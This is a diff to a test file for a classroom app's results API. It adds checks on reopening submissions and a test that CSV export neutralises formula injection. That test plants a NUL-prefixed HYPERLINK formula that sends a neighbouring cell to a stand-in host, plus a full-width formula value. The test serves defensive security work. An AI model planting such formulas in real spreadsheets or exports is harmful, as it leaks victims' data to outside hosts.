@@ -245,14 +245,18 @@ describe('reopen, export and forget', () => {
     const guest = await makeGuest(pb);
     const sent = await submit(pb, guest, {
       Room: roomId,
-      raw: { answers: [{ questionId: ids[0], value: 'colour' }] },
+      raw: { answers: [{ questionId: ids[0], value: 'colour' }], flags: [ids[1]] },
     });
+    const missing = await post(`/api/room/results/${roomId}/reopen`, {}, member.token);
+    expect(missing.status).toBe(400);
+    expect(missing.body.data.submission.code).toBe('validation_required');
     const res = await post(`/api/room/results/${roomId}/reopen`, { submission: sent.body.id }, member.token);
     expect(res.status).toBe(200);
     expect(res.body).toEqual({ reopened: true });
     const seen = await guestSearch(pb, 'results-reopen', guest);
     expect(seen.body.submission).toBeNull();
     expect(seen.body.pendingSubmission!.answers).toEqual([{ questionId: ids[0], value: 'colour' }]);
+    expect(seen.body.pendingSubmission!.flags).toEqual([ids[1]]);
     expect((await saveDraft(pb, guest, { Room: roomId, raw: { answers: [] } })).status).toBe(200);
     expect(
       (await post(`/api/room/results/${roomId}/reopen`, { submission: sent.body.id }, member.token)).status,
@@ -278,6 +282,29 @@ describe('reopen, export and forget', () => {
     expect(lines[1]).toMatch(/^"Lê Văn, An",an@school\.test,submitted,[^,]+,0,9,0,,0,,'=1\+1,/);
     expect(lines).toHaveLength(3);
     expect(lines[2]).toBe('');
+  });
+
+  it('exports a formula hidden behind a control character, or full-width, as text', async () => {
+    const { roomId, ids } = await roomWithStudents('results-export-formula');
+    const victim = await makeGuest(pb);
+    await renameGuest(victim.uuid, 'Victim', 'victim@school.test');
+    await submit(pb, victim, { Room: roomId, raw: { answers: [] } });
+    // LibreOffice's default import skips the NUL and reads a live formula pointing at the row above.
+    const attacker = await makeGuest(pb);
+    await renameGuest(attacker.uuid, '\u0000=HYPERLINK("http://x.test/?"&B2,"Open")', 'x@school.test');
+    await submit(pb, attacker, {
+      Room: roomId,
+      raw: { answers: [{ questionId: ids[0], value: '＠SUM(1)' }] },
+    });
+    const res = await fetch(`${pb.url}/api/room/results/${roomId}/export`, {
+      headers: { Authorization: member.token },
+    });
+    expect(res.status).toBe(200);
+    const lines = (await res.text()).replace(/^\ufeff/, '').split('\r\n');
+    const row = lines.find((line) => line.includes('HYPERLINK'))!;
+    expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/x\.test\/\?""&B2,""Open""\)",x@school\.test,submitted,/);
+    expect(row).toContain(",'＠SUM(1),");
+    expect(lines.join('\n')).not.toContain('\u0000');
   });
 
   it('forgets one student: their draft and submission here, and the guest when nothing else is left', async () => {
